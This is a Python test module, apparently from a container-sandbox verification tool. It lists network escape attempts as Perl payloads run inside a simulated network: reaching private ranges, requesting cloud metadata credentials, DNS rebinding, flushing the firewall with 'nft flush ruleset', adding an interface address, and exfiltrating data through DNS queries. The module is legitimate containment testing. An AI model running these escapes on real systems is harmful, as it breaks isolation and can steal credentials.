"""Attempts of a task with internet access to reach more than the public internet or the hosts on its list.

They run in a network of their own (world.py), in which every address answers. Each payload first reaches a host that it
may reach, because a payload without any network would prove nothing.
"""

from collections.abc import Awaitable, Callable, Sequence
from functools import partial

from agentcontainer.prove.attempt import Attempt, Group, Place
from agentcontainer.prove.payload import perl
from agentcontainer.prove.places import bare, namespaced, online
from agentcontainer.prove.targets import nonce_only, serve_nonce
from agentcontainer.prove.trial import Trial
from agentcontainer.prove.world import NEIGHBOUR, OTHER, OWN, PUBLIC

NAMED = "public.test"
PRIVATE = "private.test"
_BEGIN = "length tcp(@ARGV[1, 2], '') or die 'the internet is not reached'; begin;"
_CONNECT = perl(_BEGIN + "print tcp(@ARGV[0, 2], '');", begins=False)
_CONNECT_AGAIN = perl(
    _BEGIN + "inet_aton($ARGV[0]); my $again = inet_ntoa(inet_aton($ARGV[0]) or exit);"
    f"$again eq '{PUBLIC}' or print tcp($again, $ARGV[2], '');",
    begins=False,
)
_DATAGRAM = """
socket(my $s, AF_INET, SOCK_DGRAM, 0) or exit; connect($s, sockaddr_in(53, inet_aton($ARGV[0]))) or exit;
syswrite($s, "\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5nonce\\4test\\0\\0\\x10\\0\\1");
my $ready = ""; vec($ready, fileno $s, 1) = 1; select($ready, undef, undef, 3) or exit;
my $got; sysread($s, $got, 512) and print $got =~ /nonce.*nonce/s ? $ARGV[3] : "";
"""


def _at(target: str, reachable: str) -> Callable[[Trial], Awaitable[Sequence[str]]]:
    """A server at every address of the test network. The payload gets the host to reach, one that it may reach, and the
    port."""

    async def prepare(trial: Trial) -> Sequence[str]:
        return [target, reachable, str(await serve_nonce(trial, "0.0.0.0"))]  # noqa: S104 - of its world only

    return prepare


def _reach(
    name: str, tries: str, target: str, attack: Place | None = None, reachable: str = PUBLIC
) -> Attempt:
    return Attempt(name, tries, _CONNECT, _at(target, reachable), attack or online(), bare)


async def _datagram(trial: Trial) -> Sequence[str]:
    return [*await _at(PUBLIC, NAMED)(trial), trial.nonce]


async def _private_name(trial: Trial) -> Sequence[str]:
    return [*await _at(PRIVATE, PUBLIC)(trial), trial.nonce]


_listed = partial(_reach, attack=online(NAMED), reachable=NAMED)

ONLINE = Group(
    "network",
    (
        _reach("online-host", "Connects to the host at its public address.", OWN),
        _reach("online-neighbour", "Connects to a machine of the host's network (10/8).", NEIGHBOUR),
        _reach("online-private-12", "Connects to a machine of the host's network (172.16/12).", "172.16.0.2"),
        _reach(
            "online-private-16", "Connects to a machine of the host's network (192.168/16).", "192.168.7.2"
        ),
        _reach("online-shared", "Connects to a machine of the provider's network (100.64/10).", "100.64.0.2"),
        _reach("online-metadata", "Asks the cloud for this machine's credentials.", "169.254.169.254"),
        _reach(
            "online-metadata-azure",
            "Asks Azure for this machine's credentials, at a public address.",
            "168.63.129.16",
        ),
        _reach("online-test-range", "Connects to a range that no public host has.", "198.51.100.2"),
        _reach("online-name", "Connects to a name that leads to a private address.", PRIVATE),
        Attempt(
            "online-rebinding",
            "Connects to a name that leads to a private address the second time.",
            _CONNECT_AGAIN,
            _at("rebinding.test", PUBLIC),
            online(),
            bare,
        ),
        Attempt(
            "online-answer",
            "Asks where a private name leads, to learn of the host's network.",
            perl(_BEGIN + "inet_aton($ARGV[0]) and print $ARGV[3];", begins=False),
            _private_name,
            online(),
            bare,
        ),
        Attempt(
            "online-rules",
            "Takes down the firewall.",
            perl("system('nft flush ruleset && nft add table inet own') == 0 and print $ARGV[0];"),
            nonce_only,
            online(),
            namespaced("net"),
        ),
        Attempt(
            "online-route",
            "Gives itself another network address.",
            perl(
                "socket(my $s, AF_INET, SOCK_DGRAM, 0) or exit;"
                "my $ask = pack 'a16 S n a4 x8', 'lo', AF_INET, 0, inet_aton('10.99.99.99');"
                "ioctl($s, 0x8916, $ask) and print $ARGV[0];"
            ),
            nonce_only,
            online(),
            namespaced("net"),
        ),
    ),
)
LISTED = Group(
    "network",
    (
        _listed("listed-other", "Connects to a host that is not on the list.", "other.test"),
        _listed("listed-address", "Connects by its address to a host that is not on the list.", OTHER),
        _listed("listed-neighbour", "Connects to the host's network, with a list.", NEIGHBOUR),
        _listed("listed-metadata", "Asks for the cloud's credentials, with a list.", "169.254.169.254"),
        _reach(
            "listed-name",
            "Connects to a host on the list whose name leads to a private address.",
            PRIVATE,
            online(NAMED, PRIVATE),
            NAMED,
        ),
        Attempt(
            "listed-question",
            "Carries data out in the names it asks a nameserver for.",
            perl(
                "length tcp(@ARGV[1, 2], '') or die 'the internet is not reached'; begin;" + _DATAGRAM,
                begins=False,
            ),
            _datagram,
            online(NAMED),
            bare,
        ),
    ),
)
